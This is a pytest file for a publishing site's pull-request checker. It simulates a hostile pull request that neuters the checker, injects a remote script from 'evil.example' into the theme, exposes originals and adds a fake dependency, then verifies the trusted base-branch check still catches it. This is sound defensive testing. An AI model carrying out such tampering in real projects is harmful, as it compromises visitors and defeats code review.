"""A pull request cannot write its own verdict.

A real repository made of the project's own files; a pull request that adds a
bad item *and* trims the checker (``mttq/check.py``, ``tasks.py``), slips a
script into the theme, publishes originals by a setting and adds a
requirement. Its own checker says "passed"; the job (replayed by
``invoke pr-check``, which runs the same commands in the same layout as the
forge: the base branch's checker, the pull request read from ``pr/``) says
"failed", names the bad item, and asks a maintainer to review every file
outside ``content/tin`` and ``content/bai``.
"""
from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from sitefactory import write_item

ROOT = Path(__file__).resolve().parent.parent
SUBMITTED = "2025-05-15 10:00"
CHANGED_OUTSIDE = ["mttq/commands/check.py", "pelicanconf.py", "requirements.txt", "mttq/commands/cli.py",
                   "theme/templates/base.html"]


def git(repo: Path, *args: str) -> str:
    return subprocess.run(["git", "-C", str(repo), *args], check=True, capture_output=True,
                          text=True).stdout


def invoke(repo: Path, *args: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"}
    return subprocess.run([sys.executable, "-m", "invoke", *args], cwd=repo, env=env,
                          capture_output=True, text=True, timeout=600)


@pytest.fixture
def project(tmp_path):
    """The project (code, theme, settings, data; small content) on main, and a
    branch `gui-tin` for the pull request."""
    repo = tmp_path / "du-an"
    for name in git(ROOT, "ls-files").splitlines():
        if name.split("/")[0] in ("content", "tests", "bench") or not (ROOT / name).is_file():
            continue
        (repo / name).parent.mkdir(parents=True, exist_ok=True)
        shutil.copy2(ROOT / name, repo / name)
    write_item(repo / "content", "tin-da-dang", date="2025-04-02 08:00", seed=1,
               Submitted="2025-04-02 07:00")
    git(repo, "init", "-q", "-b", "main")
    git(repo, "config", "user.email", "bbt@example.org")
    git(repo, "config", "user.name", "Ban Biên tập")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "Bản chính")
    git(repo, "checkout", "-qb", "gui-tin")
    return repo


def edit(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, (path, old)
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def hostile_pull_request(repo: Path) -> None:
    write_item(repo / "content", "tin-sai-don-vi", Unit="khong-ton-tai", seed=2,
               Event_date="2025-05-14 08:00", date=None)
    # The checker, trimmed so that it passes everything:
    with (repo / "mttq" / "commands" / "check.py").open("a", encoding="utf-8") as handle:
        handle.write("\n\ndef check_change(content_root, ref, options):\n    return CheckReport()\n")
    edit(repo / "mttq" / "commands" / "cli.py", "return 0 if report.ok else 1", "return 0")
    edit(repo / "theme" / "templates" / "base.html", "</body>",
         "<script src=\"https://evil.example/x.js\"></script></body>")
    with (repo / "pelicanconf.py").open("a", encoding="utf-8") as handle:
        handle.write("\nSTATIC_PATHS = ['tin', 'bai']\n")
    with (repo / "requirements.txt").open("a", encoding="utf-8") as handle:
        handle.write("goi-khong-ton-tai-mttq==9.9.9\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "Thêm tin")


def test_the_pull_requests_own_checker_cannot_pass_it(project):
    hostile_pull_request(project)
    # What the old job did, running the pull request's own code: "passed".
    own = invoke(project, "check", "--changed-from", "main", "--submitted-at", SUBMITTED)
    assert own.returncode == 0, own.stdout + own.stderr
    # The job: the base branch's checker, the pull request's files as data.
    job = invoke(project, "pr-check", "--base", "main", "--submitted-at", SUBMITTED)
    output = job.stdout + job.stderr
    assert job.returncode == 1, output
    assert "goi-khong-ton-tai-mttq" not in output  # the base's requirements were installed
    # The forge's annotations, as a person reads them in a terminal.
    annotations = [line for line in job.stdout.splitlines() if line.startswith("LỖI [")]
    assert any(line.startswith("LỖI [meta.invalid] content/tin/2025/05/tin-sai-don-vi/index.md")
               and "khong-ton-tai" in line for line in annotations), annotations
    for name in CHANGED_OUTSIDE:
        assert any(line.startswith(f"LỖI [review.maintainer] {name}:")
                   for line in annotations), name
    assert "\ufffd" not in job.stdout  # no Vietnamese letter cut in two
    assert "Requirement already satisfied" not in job.stdout
    # The job summary (markdown) says the same to the editors.
    summary = job.stdout[job.stdout.index("\n## ") + 1:]
    assert summary.startswith("## ❌")
    for name in CHANGED_OUTSIDE:
        assert f"### `{name}`" in summary
    assert summary.count("`review.maintainer`") == len(CHANGED_OUTSIDE)


def check_with_trusted_code(repo: Path, fmt: str) -> subprocess.CompletedProcess:
    return invoke(ROOT, "check", "--changed-from", "main", "--content", str(repo / "content"),
                  "--submitted-at", SUBMITTED, "--format", fmt)


def test_a_change_outside_the_items_needs_a_maintainer_in_every_format(project):
    """A pull request that touches only the theme used to get no check at all."""
    edit(project / "theme" / "templates" / "base.html", "</body>", "<script>1</script></body>")
    (project / ".github" / "workflows" / "pr-check.yml").unlink()  # deleted files count too
    git(project, "commit", "-qam", "Sửa giao diện")
    expected = {"theme/templates/base.html", ".github/workflows/pr-check.yml"}

    result = check_with_trusted_code(project, "json")
    assert result.returncode == 1
    report = json.loads(result.stdout)
    found = {f["path"]: [p["code"] for p in f["problems"] if p["severity"] == "error"]
             for f in report["files"]}
    assert found == {name: ["review.maintainer"] for name in expected}

    text = check_with_trusted_code(project, "text")
    assert text.returncode == 1 and text.stdout.count("LỖI [review.maintainer]") == 2
    assert "người quản trị" in text.stdout
    github = check_with_trusted_code(project, "github").stdout.splitlines()
    assert sorted(l.split(",")[0] for l in github) == sorted(f"::error file={n}" for n in expected)
    markdown = check_with_trusted_code(project, "markdown").stdout
    assert markdown.startswith("## ❌") and markdown.count("`review.maintainer`") == 2


def test_a_pull_request_of_items_only_needs_no_maintainer(project):
    write_item(project / "content", "tin-moi", seed=3, date="2025-05-14 09:00",
               Submitted="2025-05-14 10:00")
    git(project, "add", "-A")
    git(project, "commit", "-qm", "Thêm tin mới")
    result = check_with_trusted_code(project, "json")
    report = json.loads(result.stdout)
    assert result.returncode == 0, result.stdout
    assert {f["path"] for f in report["files"]} == {
        "content/tin/2025/05/tin-moi/index.md", "content/tin/2025/05/tin-moi/anh-1.jpg"}
